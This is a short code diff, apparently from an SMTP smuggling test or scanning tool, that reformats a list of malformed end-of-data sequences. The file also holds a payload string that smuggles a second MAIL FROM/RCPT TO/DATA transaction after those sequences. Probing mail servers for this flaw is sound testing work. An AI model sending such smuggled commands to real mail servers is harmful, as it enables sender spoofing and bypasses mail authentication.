@@ -48,8 +48,22 @@ async function flood(client: SubmissionClient, octets: string | Buffer, octetsMa
 
 /** What some servers take for the end of a message. */
 const PSEUDO_ENDS = [
-  ...["\n.\n", "\r.\r", "\n.\r\n", "\r\n.\n", "\r\n.\r", "\r.\r\n", "\n.\r", "\r.\n", "\n\n.\r\n", "\r\n.\r\r\n"],
-  ...["\r\n.\n\r\n", "\r\n\0.\r\n", "\r\n.\0\r\n", "\r\n. \r\n", "\r\n .\r\n", "\r\n\u0085.\u0085\r\n"],
+  "\n.\n",
+  "\r.\r",
+  "\n.\r\n",
+  "\r\n.\n",
+  "\r\n.\r",
+  "\r.\r\n",
+  "\n.\r",
+  "\r.\n",
+  "\n\n.\r\n",
+  "\r\n.\r\r\n",
+  "\r\n.\n\r\n",
+  "\r\n\0.\r\n",
+  "\r\n.\0\r\n",
+  "\r\n. \r\n",
+  "\r\n .\r\n",
+  "\r\n\u0085.\u0085\r\n",
 ];
 
 const COMMANDS = `MAIL FROM:<evil@b.example>\r\nRCPT TO:<${SMUGGLED}>\r\nDATA\r\n${HEADER}\r\nsmuggled`;
